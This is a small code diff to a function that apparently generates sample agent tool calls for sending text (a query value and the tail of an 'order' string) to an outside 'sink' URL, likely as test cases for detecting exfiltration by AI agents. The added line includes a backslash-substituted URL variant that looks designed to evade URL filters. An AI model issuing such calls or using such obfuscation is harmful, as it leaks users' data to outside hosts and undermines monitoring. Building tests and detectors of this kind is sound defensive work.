@@ -140,7 +140,8 @@ def outside(sink: str, order: str) -> list[Call]:
         Call("http_request", {"url": f"{sink}/?q={said}"}),
         Call("http_request", {"url": f"{sink}/json", "method": "post", "json": {"goal": order[-200:]}}),
         Call("post__send", {"text": order[-300:]}),
-        Call("post__read", {"text": f"{sink}/?q={said}"}),
+        Call("post__fetch", {"text": f"{sink}/?q={said}"}),
+        Call("post__fetch", {"text": f"{sink}/".replace("/", chr(92)) + said}),
     ]
 
 
